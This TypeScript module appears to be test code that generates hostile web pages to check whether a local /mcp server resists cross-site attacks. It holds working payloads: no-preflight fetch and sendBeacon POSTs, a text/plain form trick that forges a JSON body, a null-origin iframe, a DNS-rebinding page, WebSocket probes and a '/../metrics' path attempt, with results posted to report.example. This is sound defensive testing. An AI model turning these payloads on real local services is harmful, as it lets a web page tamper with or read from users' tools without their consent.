// What a hostile page does to a server on its visitor's machine, as scripts of that page: everything a
// browser sends without asking, in every content type that needs no preflight, and what it could read.

/** What became of an attack as its page saw it: an answer it could read, or none. */
export interface Seen {
  readonly attack: string;
  /** The status and the text of an answer that the page could read. */
  readonly status?: number;
  readonly text?: string;
}

/** The attacks of a page of another site. */
export interface CrossSiteOptions {
  /** The endpoint under the names that a page may try. */
  readonly endpoints: readonly string[];
  /** A call that stores a fact, for a subject; as JSON. */
  readonly plant: (subject: string) => string;
}

/** A page that posts and gets in every way it can. */
export function crossSitePage({ endpoints, plant }: CrossSiteOptions): string {
  const targets = endpoints.map((url) => ({ url, body: plant(`from a page by ${url}`) }));
  return page(`
    for (const { url, body } of ${JSON.stringify(targets)}) {
      const simple = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
      for (const type of simple) {
        const headers = { "content-type": type };
        await tried("no-cors " + type, () => fetch(url, { method: "POST", mode: "no-cors", headers, body }));
        await tried("cors " + type, () => fetch(url, { method: "POST", headers, body }));
        await tried("with cookies " + type, () =>
          fetch(url, { method: "POST", headers, body, credentials: "include" }));
        navigator.sendBeacon(url, new Blob([body], { type }));
      }
      const untyped = new Blob([body]);
      await tried("no-cors untyped", () => fetch(url, { method: "POST", mode: "no-cors", body: untyped }));
      await tried("cors json", () => fetch(url, {
        method: "POST", headers: { "content-type": "application/json" }, body }));
      navigator.sendBeacon(url, untyped);
      navigator.sendBeacon(url, body);
      const fields = new FormData();
      fields.append(body, "");
      navigator.sendBeacon(url, fields);
      for (const type of simple) await posted(url, body, type, "");
      await posted(url, body, "text/plain", "allow-forms");
      for (const path of ["", "/health", "/../metrics"]) {
        await tried("get " + path, () => fetch(url + path));
        await tried("no-cors get " + path, () => fetch(url + path, { mode: "no-cors" }));
      }
      await tried("delete", () => fetch(url, { method: "DELETE" }));
      await element("img", url);
      await element("script", url + "/health");
      await element("link", url);
      await events(url);
      await socket(url.replace("http", "ws"));
      await nullOrigin(url, body);
    }
  `);
}

/** A page whose own name leads to the server by now: all it sends is of its own origin. */
export function reboundPage(body: string): string {
  return page(`
    const json = { "content-type": "application/json" };
    const post = { method: "POST", headers: json, body: ${JSON.stringify(body)} };
    await tried("post", () => fetch("/mcp", post));
    await tried("get", () => fetch("/mcp", { headers: { accept: "text/event-stream" } }));
    await tried("delete", () => fetch("/mcp", { method: "DELETE" }));
    await tried("options", () => fetch("/mcp", { method: "OPTIONS" }));
    await tried("health", () => fetch("/mcp/health"));
    await tried("metrics", () => fetch("/metrics"));
    await events("/mcp");
    await socket(location.href.replace("http", "ws") + "mcp");
    await posted("/mcp", post.body, "text/plain", "");
  `);
}

/** A page of an origin that the server allows, which shows that these scripts can do what they try. */
export function allowedPage(url: string, body: string): string {
  return page(`
    await tried("allowed", () => fetch(${JSON.stringify(url)}, {
      method: "POST", headers: { "content-type": "application/json" }, body: ${
    JSON.stringify(body)
  } }));
  `);
}

/** The path to which every page reports what it has seen, on the server it comes from. */
export const REPORT_PATH = "/report";

// Text in a script element must not end it.
function page(attacks: string): string {
  return `<!doctype html><body><script type="module">
    const seen = [];
    ${HELPERS}
    try { ${
    attacks.replaceAll("</", "<\\/")
  } } catch (thrown) { seen.push({ attack: String(thrown), text: "broken" }); }
    await fetch("http://report.example:" + new URLSearchParams(location.search).get("report") + "${REPORT_PATH}",
      { method: "POST", mode: "no-cors", body: JSON.stringify(seen) });
  </script>`;
}

const HELPERS = `
  async function tried(attack, send) {
    try {
      const response = await send();
      if (response.type === "opaque") seen.push({ attack });
      else seen.push({ attack, status: response.status, text: await response.text() });
    } catch { seen.push({ attack }); }
  }
  function frameOf(sandbox) {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.querySelectorAll("iframe").length;
    if (sandbox !== "") frame.setAttribute("sandbox", sandbox);
    document.body.append(frame);
    return frame;
  }
  function posted(url, body, enctype, sandbox) {
    const frame = frameOf(sandbox);
    const form = document.createElement("form");
    Object.assign(form, { action: url, method: "post", enctype, target: frame.name });
    const field = document.createElement("textarea");
    // As text/plain, "name=value" becomes the JSON when the equals sign falls into a string.
    field.name = body.slice(0, -1) + ',"x":"';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    return new Promise((resolve) => {
      frame.addEventListener("load", () => resolve(), { once: true });
      form.submit();
    });
  }
  function element(name, url) {
    const made = document.createElement(name);
    return new Promise((resolve) => {
      made.onload = made.onerror = () => resolve();
      if (name === "link") Object.assign(made, { rel: "stylesheet", href: url });
      else made.src = url;
      document.body.append(made);
    });
  }
  function events(url) {
    const source = new EventSource(url);
    return new Promise((resolve) => {
      source.onopen = () => seen.push({ attack: "events", status: 200, text: "open" });
      source.onerror = () => { source.close(); resolve(); };
    });
  }
  function socket(url) {
    const opened = new WebSocket(url);
    return new Promise((resolve) => {
      opened.onopen = () => seen.push({ attack: "socket", status: 101, text: "open" });
      opened.onclose = () => resolve();
      opened.onerror = () => resolve();
    });
  }
  function nullOrigin(url, body) {
    const frame = frameOf("allow-scripts");
    const json = JSON.stringify(body);
    frame.srcdoc = "<script>fetch(" + JSON.stringify(url) + ", { method: 'POST', mode: 'no-cors', body: " +
      json + " }).catch(() => {}).then(() => parent.postMessage('done', '*'))<" + "/script>";
    return new Promise((resolve) => addEventListener("message", () => resolve(), { once: true }));
  }
`;
